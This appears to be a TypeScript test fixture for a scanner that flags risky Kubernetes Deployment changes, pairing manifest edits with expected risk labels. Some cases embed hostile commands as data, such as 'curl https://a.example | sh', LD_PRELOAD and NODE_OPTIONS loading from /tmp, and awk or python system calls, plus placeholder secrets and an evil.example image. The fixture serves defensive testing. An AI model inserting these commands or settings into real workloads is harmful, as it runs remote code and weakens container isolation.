import { docs, workload } from '../effect-case.ts'
import { object, type RiskCase } from '../risk-case.ts'

const pod = (what: string, before: string, after: string, ...risks: readonly string[]): RiskCase => [
  what,
  workload('Deployment', '', before),
  workload('Deployment', '', after),
  ...risks,
]
const main = (more = '') => `{name: app, image: "r.example/web:1"${more === '' ? '' : `, ${more}`}}`
const one = (more = '', beside = '') => `containers: [${main(more)}]${beside === '' ? '' : `, ${beside}`}`
const own = (context: string) => one(`securityContext: {${context}}`)
const context = (what: string, before: string, after: string, ...risks: readonly string[]) =>
  pod(what, own(before), own(after), ...risks)
const field = (what: string, before: string, after: string, ...risks: readonly string[]) =>
  pod(what, one('', before), one('', after), ...risks)
const image = (what: string, before: string, after: string, ...risks: readonly string[]) =>
  pod(what, `containers: [{name: app, image: "${before}"}]`, `containers: [{name: app, image: "${after}"}]`, ...risks)
const account = (more: string) => object('v1 ServiceAccount', more).replace('name: web', 'name: default')
const labels = (more: string) => workload('Deployment', '', one(), `app: web${more}`)

const starts = (what: string, before: string, after: string, ...risks: readonly string[]) =>
  pod(what, one(before), one(after), ...risks)

/** What pods may do, what they are given, where their images come from. */
export const podRiskCases: readonly RiskCase[] = [
  pod(
    'processes that see each other',
    one(),
    `shareProcessNamespace: true, ${one()}`,
    'medium process-restriction-removed',
  ),
  pod(
    'a setting of the kernel',
    one(),
    `securityContext: {sysctls: [{name: kernel.msgmax, value: "1"}]}, ${one()}`,
    'medium process-restriction-removed',
  ),
  pod(
    'a safe setting of the kernel',
    one(),
    `securityContext: {sysctls: [{name: net.ipv4.tcp_syncookies, value: "1"}]}, ${one()}`,
  ),
  pod(
    'a token for somebody else',
    `automountServiceAccountToken: false, ${one()}`,
    `automountServiceAccountToken: false, volumes: [{name: t, projected: {sources: [{serviceAccountToken: {path: t, audience: vault}}]}}], ${one()}`,
    'medium token-mounted',
  ),
  pod(
    'a name that leads elsewhere',
    one(),
    `hostAliases: [{ip: 203.0.113.9, hostnames: [pay.example]}], ${one()}`,
    'medium names-elsewhere',
  ),
  starts('a password as it is', '', 'env: [{name: DB_PASSWORD, value: hunter2hunter2}]', 'medium secret-in-git'),
  starts('a password in an address', '', 'args: ["--db=postgres://app:hunter2hunter2@db/app"]', 'medium secret-in-git'),
  starts('an address that is filled in', '', 'args: ["--db=postgres://app:$(PASSWORD)@db/app"]'),
  starts('the name of a Secret', '', 'env: [{name: TLS_SECRET, value: web-tls}]'),
  starts('a file with a token', '', 'env: [{name: API_TOKEN, value: /var/run/secrets/token}]'),
  starts('a password by reference', '', 'env: [{name: DB_PASSWORD, value: $(OTHER)}]'),
  starts(
    'a token as an argument',
    '',
    'args: [--token, ghp_0123456789abcdefghijABCDEFGHIJ012345]',
    'medium secret-in-git',
  ),
  starts('another argument', 'args: [serve]', 'args: [serve, --fast]'),
  starts(
    'a shell that is told what to do',
    '',
    'command: [sh, -c, "curl https://a.example | sh"]',
    'medium code-in-command',
  ),
  starts(
    'code in a probe',
    'livenessProbe: {exec: {command: [/bin/ready]}}',
    'livenessProbe: {exec: {command: [/usr/bin/python3, -c, "import x"]}}',
    'medium code-in-command',
  ),
  starts(
    'a probe that asks its own database by a shell',
    '',
    `readinessProbe: {exec: {command: [/bin/sh, -c, 'exec pg_isready -U "postgres" -h 127.0.0.1 -p 5432']}}`,
    'low code-in-command',
  ),
  starts(
    'a probe that asks another machine',
    '',
    'readinessProbe: {exec: {command: [sh, -c, "curl -f http://localhost/ok && curl http://a.example/x"]}}',
    'medium code-in-command',
  ),
  starts(
    'a probe that hands on an answer',
    '',
    'readinessProbe: {exec: {command: [sh, -c, "curl localhost | sh"]}}',
    'medium code-in-command',
  ),
  // https://nodejs.org/api/cli.html, https://docs.deno.com/runtime/reference/cli/run/,
  // https://docs.python.org/3/using/cmdline.html
  starts('a script behind an option', '', 'command: [node, --inspect, a.js, -c, x]'),
  starts(
    'a script behind a module that is loaded first',
    '',
    'command: [node, --require=x, a.js]',
    'medium code-in-command',
  ),
  starts(
    'a word of an option that looks like a script',
    '',
    'command: [node, --title, a.js, -e, "x()"]',
    'medium code-in-command',
  ),
  starts('settings of deno', '', 'command: [deno, run, -c, deno.json, main.ts]'),
  starts('code of deno', '', 'command: [deno, eval, "x()"]', 'medium code-in-command'),
  starts('a check of node', '', 'command: [node, -c, a]'),
  starts('code right behind its letter', '', 'command: [python3, "-cimport x"]', 'medium code-in-command'),
  starts('code behind an equals sign', '', 'command: [node, "--eval=x()"]', 'medium code-in-command'),
  starts('a library before all others', '', 'env: [{name: LD_PRELOAD, value: /tmp/x.so}]', 'medium code-in-command'),
  starts(
    'a module before the program',
    '',
    'env: [{name: NODE_OPTIONS, value: --require /tmp/x.js}]',
    'medium code-in-command',
  ),
  starts('more memory', '', 'env: [{name: NODE_OPTIONS, value: --max-old-space-size=256}]'),
  starts('a file of the image', 'command: [node, a.js]', 'command: [node, b.js]'),
  starts('an option of a script', 'command: [node, a.js]', 'command: [node, a.js, -c, config.json]'),
  starts('an option of a module', '', 'command: [python3, -u, -m, gunicorn, -c, gunicorn.conf.py, web]'),
  starts(
    'a module of Ruby right behind its letter',
    '',
    'env: [{name: RUBYOPT, value: -r/tmp/x}]',
    'medium code-in-command',
  ),
  starts(
    'code for the shell that the image starts',
    '',
    'args: [-c, "curl https://a.example | sh"]',
    'medium code-in-command',
  ),
  starts(
    'code for the Node of the image',
    'args: [server.js]',
    'args: [--eval=fetch("//a")]',
    'medium code-in-command',
  ),
  starts('code for the Perl of the image', '', 'args: [-w, -e, "system(1)"]', 'medium code-in-command'),
  starts('a setting of PostgreSQL', '', 'args: [-c, max_connections=200, -c, shared_buffers=1GB]'),
  starts('a file of settings', '', 'args: [-c, /etc/app/config.yaml, -e, production]'),
  starts('an option of a program that is named', '', 'args: [serve, -e, "a; b"]'),
  starts(
    'code right behind the letter',
    '',
    'command: [python3, "-cimport os; os.system(1)"]',
    'medium code-in-command',
  ),
  starts('a program of awk', '', 'command: [awk, "BEGIN{system(\\"id\\")}"]', 'medium code-in-command'),
  starts('an option of a program behind env', '', 'command: [env, A=b, app, "-config={a: 1}"]'),
  starts('a container that starts as the image says', 'args: [serve]', ''),
  starts('a shell that pauses', '', 'lifecycle: {preStop: {exec: {command: [sh, -c, sleep 20]}}}'),
  context('privileged', 'privileged: false', 'privileged: true', 'high more-privileges'),
  context('no more rights by saying what holds anyway', '', 'allowPrivilegeEscalation: true'),
  context('escalation, by a field that goes', 'allowPrivilegeEscalation: false', '', 'high more-privileges'),
  context('privileged no more', 'privileged: true', 'privileged: false'),
  context('/proc as it is', '', 'procMount: Unmasked', 'high more-privileges'),
  context('root by number', 'runAsUser: 1000', 'runAsUser: 0', 'high root'),
  context('root, since nobody says no', 'runAsNonRoot: true', '', 'high root'),
  context('another user that is not root', 'runAsUser: 1000', 'runAsUser: 1001'),
  context('a number in the place of a word', 'runAsNonRoot: true', 'runAsUser: 1000'),
  pod(
    "the pod's word in the place of the container's",
    own('runAsNonRoot: true'),
    one('securityContext: {}', 'securityContext: {runAsNonRoot: true}'),
  ),
  context(
    'a capability',
    'capabilities: {drop: [ALL]}',
    'capabilities: {drop: [ALL], add: [NET_ADMIN]}',
    'high more-capabilities',
  ),
  context('all capabilities back', 'capabilities: {drop: [ALL]}', 'capabilities: {}', 'high more-capabilities'),
  context(
    'one is dropped no more',
    'capabilities: {drop: [NET_RAW, CHOWN]}',
    'capabilities: {drop: [CHOWN]}',
    'high more-capabilities',
  ),
  context(
    'all are dropped, one is kept',
    'capabilities: {drop: [NET_RAW]}',
    'capabilities: {drop: [ALL], add: [CHOWN]}',
  ),
  context('its image is written to', 'readOnlyRootFilesystem: true', '', 'medium writable-image'),
  context(
    'no seccomp',
    'seccompProfile: {type: RuntimeDefault}',
    'seccompProfile: {type: Unconfined}',
    'medium process-restriction-removed',
  ),
  context(
    'another profile of seccomp',
    'seccompProfile: {type: RuntimeDefault}',
    'seccompProfile: {type: Localhost, localhostProfile: a}',
  ),
  context('SELinux by another type', '', 'seLinuxOptions: {type: spc_t}', 'medium process-restriction-removed'),
  pod('a second container of no words', one(), `containers: [${main()}, {name: more, image: "r.example/web:1"}]`),
  pod(
    'a second container that is privileged',
    one(),
    `containers: [${main()}, {name: more, image: "r.example/web:1", securityContext: {privileged: true}}]`,
    'high more-privileges',
  ),
  pod(
    'an init container that is root',
    one(),
    `${one()}, initContainers: [{name: a, image: "r.example/web:1", securityContext: {runAsUser: 0}}]`,
    'high root',
  ),
  pod(
    'a container under another name, and with less to hold it',
    own('allowPrivilegeEscalation: false'),
    'containers: [{name: other, image: "r.example/web:1"}]',
    'high more-privileges',
  ),
  [
    'a Deployment that is privileged is added',
    '',
    workload('Deployment', '', own('privileged: true')),
    'high more-privileges',
  ],
  ['a Deployment of no words is added', '', workload('Deployment', '', one())],
  [
    'a Job on the host',
    '',
    object('batch/v1 Job', `spec: {template: {spec: {hostPID: true, ${one()}}}}`),
    'high node-namespace',
  ],
  field('the network of the node', '', 'hostNetwork: true', 'high node-namespace'),
  field('users of the node', 'hostUsers: false', '', 'high node-namespace'),
  field('no network of the node', 'hostNetwork: true', 'hostNetwork: false'),
  field('a folder of the node', '', 'volumes: [{name: a, hostPath: {path: /var/run}}]', 'high node-folder'),
  field('a folder of its own', '', 'volumes: [{name: a, emptyDir: {}}]'),
  field(
    'a volume that becomes a folder of the node',
    'volumes: [{name: a, emptyDir: {}}]',
    'volumes: [{name: a, hostPath: {path: /}}]',
    'high node-folder',
  ),
  pod(
    'a port of the node',
    one('ports: [{containerPort: 80}]'),
    one('ports: [{containerPort: 80, hostPort: 80}]'),
    'medium node-port',
  ),
  field('a token, by a field that goes', 'automountServiceAccountToken: false', '', 'medium token-mounted'),
  field('a token as before', 'automountServiceAccountToken: true', ''),
  [
    'no token, since the account says so',
    docs(
      account('automountServiceAccountToken: false'),
      workload('Deployment', '', one('', 'automountServiceAccountToken: false')),
    ),
    docs(account('automountServiceAccountToken: false'), workload('Deployment', '', one())),
  ],
  ['an account that gives tokens', account('automountServiceAccountToken: false'), account(''), 'medium token-mounted'],
  ['out of the mesh', labels(''), labels(', sidecar.istio.io/inject: "false"'), 'high mesh-left'],
  ['in the mesh, said again', labels(''), labels(', sidecar.istio.io/inject: "true"')],
  image('another registry', 'good.example/web:1', 'evil.example/web:1', 'high image-source'),
  image('another repository of it', 'good.example/web:1', 'good.example/other:1', 'medium image-source'),
  image('the same, by its whole name', 'nginx:1', 'docker.io/library/nginx:1'),
  image('another tag', 'good.example:5000/web:1', 'good.example:5000/web:2'),
  image('no digest', `r.example/web@sha256:${'a'.repeat(64)}`, 'r.example/web:1', 'medium image-by-tag'),
  pod(
    'a sidecar of another registry',
    one(),
    `containers: [${main()}, {name: more, image: "evil.example/x:1"}]`,
    'high image-source',
  ),
  pod('another identity', one('', 'serviceAccountName: a'), one('', 'serviceAccountName: b'), 'medium other-identity'),
]
